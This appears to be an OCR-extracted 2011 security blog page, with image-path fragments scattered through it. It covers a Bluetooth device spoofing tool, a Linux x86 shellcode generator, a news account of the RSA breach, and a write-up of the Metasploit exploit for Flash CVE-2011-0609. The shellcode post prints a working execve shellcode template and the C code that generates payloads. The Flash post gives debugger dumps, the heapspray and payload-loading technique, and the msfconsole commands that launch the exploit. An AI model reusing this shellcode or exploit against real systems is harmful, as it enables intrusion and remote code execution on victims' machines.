Thursday, April 14, 2011

Spooftooph: The Bluetooth Spoofer!

Spooftooph is designed to automate spoofing or cloning bluetooth device Name, Class, and Address. Cloning this information effectively allows Bluetooth device to hide in plain site. Bluetoothscanning software will only list one of the devices if more than one device in range shares the same device information when the devices are in Discoverable Mode (specifically the same Address).
Well normally most of us never intend to audit the Bluetooth stack in any organization. But this tool could be interesting to use in an environment where Bluetooth devices have been paired with important hardware.
Spooftooph presents us the following features:
  • Clone and log Bluetooth device information
  • Generate a random new Bluetooth profile
  • Change Bluetooth profile every X seconds
  • Specify device information for Bluetooth interface
  • Select device to clone from scan log
Now this is the best part – it alsoincludes a MITM which makes it easier to clone the Device Profile of two targeted devices. You can also randomly generate Bluetooth NAME, CLASS and ADDR fields or you could do that to random devices info in range every X seconds!  Spooftooph has several options for Bluetooth device information modification:
  • Option 1: Continuously scan an area for Bluetooth devices. Make a selection on which device in the list to clone. This option also allows for logging of the scanned devices.
  • Option 2: Randomly generate and assign valid Bluetooth interface information. The class and address are randomly generated and the name is derived from a list of the top 100 most common names in US and the type of device. For example if the randomly generated class is a phone, SpoofTooph might generate the name “Bob’s Phone”.
  • Option 3: Specify the name, class, and address a user wishes for the Bluetooth interface to have.
  • Option 4: Read in the log of previous scans and select a device to clone. Users can also manually add Bluetooth profiles to these log files.
  • Option 5: Incognito mode. Scan for and clone new devices at user assigned intervals.

download the Spooftooph v0.4 (spooftooph-0.4.tar.gz)here.

Tuesday, April 5, 2011

Shell CodeGenerator

Hi Folks,
today I 'd like to share another educational piece of code: it's a shell code generator. Everybody knows that metasploit generates great payloads with just few commands ( here my old post on the topic and here another interesting one ) but here, I want to show you (and I am thinking to show it up to my future classes) a piece of code from BlackLight to generate shellcodes by injecting dynamic commands from keyboard. The goal is to be able to quick generate a shellcode (or more generally payloads) for Linux x86 platform giving as input to the program a "cmd" and receiving back a perfect generated ( = NULL-Free + within less Bytes possible) shellcode ready to be injected.

So let's see how it works:


char code[] =
"\\x60" /*pusha*/
"\\x31\\xc0" /*xor %eax,%eax*/
"\\x31\\xd2" /*xor %edx,%edx*/
"\\xb0\\x0b" /*mov $0xb,%al*/"\\x52" /*push %edx*/
"\\x68\\x6e\\x2f\\x73\\x68" /*push $0x68732f6e*/
"\\x68\\x2f\\x2f\\x62\\x69" /*push $0x69622f2f*/
"\\x89\\xe3" /*mov %esp,%ebx*/
"\\x52" /*push %edx*/
"\\x68\\x2d\\x63\\x63\\x63" /*push $0x6363632d*/
"\\x89\\xe1" /*mov %esp,%ecx*/
"\\x52" /*push %edx*/
"\\xeb\\x07" /*jmp 804839a */
"\\x51" /*push %ecx*/
"\\x53" /*push %ebx*/
"\\x89\\xe1" /*mov %esp,%ecx*/
"\\xcd\\x80" /*int $0x80*/
"\\x61" /*popa*/
"\\xe8\\xf4\\xff\\xff\\xff" /*call 8048393 */;

First-of-all, we wanna be sure that a "cmd" (or multiple commands in case of parameters) it's been passed to the main ...

int main (int argc, char **argv) {
int i,len=0;
char *shell,*cmd;if (!argv[1])

Then, lets find out the total length. (eventually, length of multiple parameters).

for (i=1; i
len += strlen(argv[i]);
len += argc;

Once the "cmd" has been inserted, the program reserves and allocates the "cmd" (or "cmds" in case of parameters) plus a space (\x20) for each parameter, into the memory heap.

cmd = (char*) malloc(len);

for (i=1; i
strcat (cmd,argv[i]);
strcat (cmd,"\x20");

Removing the last space. After the last parameter there is no need to having one...


Now it's time to allocate enough memory into the heap to store the shellcode template (here called "code") and the command line, making the assumption that the "program's name" is bigger then its parameters times 5 (as max).

shell = (char*) malloc( sizeof(code) + (strlen(argv[1]))*5 + 1 );

{I would probably have done ... but anyway.... shell = (char*) malloc( sizeof(code) + strlen(cmd) + 1 );}

Copying the shellcode template:

memcpy (shell,code,sizeof(code));

For each Byte copy into (and after) the shell cmd chars expressed in hex with precision 2. Finally print the entire string in stdout.

for (i=0; i
sprintf (shell,"%s\\x%.2x",shell,cmd[i]);
printf ("%s\n",shell);
A great example of a quick shellcode generator !

from Marco Ramili blog

The RSA Hack: How They Did It

The hack last month at RSA Security has been shrouded in mystery.
How did a hacker manage to infiltrate one of the world’s topcomputer-security companies? And could the data that was stolen be used to impair its SecurID products, which are used by 40 million businesses that are trying to keep their own networks safe from intruders?
The division of the EMC Corporation is staying mum about what exactly was stolen from its computer systems, aside from that it was data related to SecurID.
But on Friday RSA shed some light on the nature of the attack. In a blog post titled “Anatomy of an Attack,” the company’s head of new technologies, Uri Rivner, described a three-stage operation that was similar to several other recent prominentattacks on technology companies, including a 2009 attack on Google that it said originated in China.

In the attack on RSA, the attacker sent “phishing” e-mails with the subject line “2011 Recruitment Plan” to two small groups of employees over the course of two days. Unfortunately, one was interested enough to retrieve one of these messages from his or her junk mail and open the attached Excel file. The spreadsheet contained malware that used a previously unknown, or “zero-day,” flaw in Adobe’s Flash software to install a backdoor. RSA said that Adobe had since released a patch to fix that hole.
After installing a stealthy tool that allowed the hacker to control the machine from afar, he stole several account passwords belonging to the employee and used them to gain entry into other systems, where he could gain access to other employees with access to sensitive data, Mr. Rivner said.
Then came stage three: spiriting RSA files out of thecompany to a hacked machine at a hosting provider, and then on to the hacker himself.
The attacker left few traces. But an unclassified document from the United States Computer Emergency Readiness Team (US-CERT) obtained by the blogger Brian Krebs revealed three Web addresses used in the intrusion, one of which includes the letters “PRC,” which could refer to the People’s Republic of China — or it could be a ruse.
According to Mr. Rivner, it’s difficult for companies with the world’s most sophisticated defenses to stop this newfangled “advanced persistent threats,” which are made potent by the combination of low-tech “social-engineering” cons and a high-tech zero-day attack that antivirus software won’t recognize.
That RSA detected the attack in progress was a victory, heargued. Many other companies hit by similar attacks “either detected the attacks after months, or didn’t detect them at all and learned about it from the government,” he said. “As an industry, we have to act fast and develop a new defensedoctrine; the happy days of good old hacking are gone, and gone too are the old defense paradigms.”
But some security experts ridiculed the notion that the attack was sophisticated. Jeremiah Grossman, founder of WhiteHat Security, posted on Twitter: “I can’t tell if this RSA APT blog post is actually being serious or an April 1st gag. The content is absurd either way.”

Metasploit - Adobe Flash CVE-2011-0609

Recently, I spent about a week and a half working on the latest 0-day Flash vulnerability. I released a working exploit on March 22nd 2011. The original exploit was just an attempt to get something working out the door for all of our users. The first attempt left a lot to be desired. To understand the crux of this vulnerability and what needed to be done to improve the first attempt at exploiting it I had to dig in deep into ActionScript.

ActionScript is a language which is embedded into an SWF file in the form of a bytecode stream. The embedded bytecode stream is handled by the ActionScript Virtual Machine (AVM) which is tasked with verifying the bytecode and generating native code. This process is commonly referred to as JIT (Just In Time) compiling.

The cause of this specific vulnerability is due to a one byte alteration (fuzzing) within an original well formed bytecode stream found in a file called addLabels.swf. The bytecode passes the verification process and the native code is generated and placed in VirtualAlloc()'d executable memory. The specific results of this code executing is that uninitialized memory is referenced.

(fb4.9a0): Access violation - code c0000005 (!!! second chance !!!)
eax=02b38c89 ebx=02b46b20 ecx=02b78040 edx=40027f2b esi=02b467c0 edi=02b5d1f0
eip=02b7558e esp=0013e0e8 ebp=0013e180 iopl=0         nv up ei pl nz na po nc
cs=001b  ss=0023  ds=0023  es=0023  fs=003b  gs=0000efl=00040202
02b7558e 8b4a70          mov     ecx,dword ptr [edx+70h] ds:0023:40027f9b=????????

0:000> dd eax+8
02b38c91  40027f2b 21029780 0002b36d e8180000
02b38ca1  01026d56 34800041 000263d9 08000000
02b38cb1  0a000000 e8000000 01026d56 43800042
02b38cc1  000263d9 05000000 0a000000 e8000000
02b38cd1  01026d56 58800043 000263d9 0c000000
02b38ce1  0a000000 e8000000 01026d56 7a800044
02b38cf1  000263d9 06000000 0a000000 e8000000
02b38d01  01026d56 9c800045 000263d9 08000000

0:000> u eip
02b7558e 8b4a70          mov     ecx,dword ptr [edx+70h]
02b75591 8d559c          lea     edx,[ebp-64h]
02b75594 89459c          mov     dword ptr [ebp-64h],eax
02b75597 8b01            mov     eax,dword ptr [ecx]
02b75599 52              push    edx
02b7559a 6a00            push    0
02b7559c 51              push    ecx
02b7559d ffd0            call    eax

The memory being referenced is uninitialized. To control this memory heapspraying is required. The original exploit used heapspraying within JavaScript. This worked but it was not very reliable.

The solution was to preform the heapspray within a SWF file which loads the trigger SWF. Using fromRoee Hay I was able to get some basic heapspraying accomplished. This is a lot more reliable because it is using the same Heap management routines Flash uses to allocate memory. A copy of the ActionScript source code I used for this exploit can be found in the source file.

Now that I have reliable control over theunintialized memory. Whats the next task? The next task is simply constructing the memory in such a way that the call eax instruction in the JIT code executes my shellcode. This was easily done using the good old Skylined technique of using an address which doubles as a nop instruction (0x0d0d0d0d ftw!).

The next major hurdle I had to over come was now that I have execution control what do I execute? While testing I was using a hardcoded payload within the ActionScript which simply executed calc.exe. This just was not going to cut it. A few initial options came to mind, I could hardcode a meterpreter payload. This was not very dynamic at all and so I had to come up with something else. The next option I thought of was using an egghunter payload to find shellcode I could inject in some other fashion. This would work but really limited things to a lot of payload specifics for example if the hardcoded egghunter payload was for a different architecture than the targeted machine things would blow up and break. That would be pretty tragic since all the conditions for getting a shell would be in place but everything breaks due to the dependencies of a hardcoded payload.

Finally, I came to conclusion I needed to find a way to dynamically read a payload using ActionScript. Now I can simply make a HTTP request for a text file and read in the ASCII hexadecimal representation of the payload. After decoding the payload it can be applied to the heapspray code and now we have dynamic payloads in memory. W00t!

      =[ metasploit v3.7.0-dev [core:3.7 api:1.0]
+ -- --=[ 672 exploits - 345 auxiliary
+ -- --=[ 217 payloads - 27 encoders - 8 nops
      =[ svn r12149 updated today (2011.03.26)

msf > use exploit/windows/browser/adobe_flashplayer_avm
msf exploit(adobe_flashplayer_avm) > setURIPATH /
msf exploit(adobe_flashplayer_avm) > exploit
[*] Exploit running as background job.
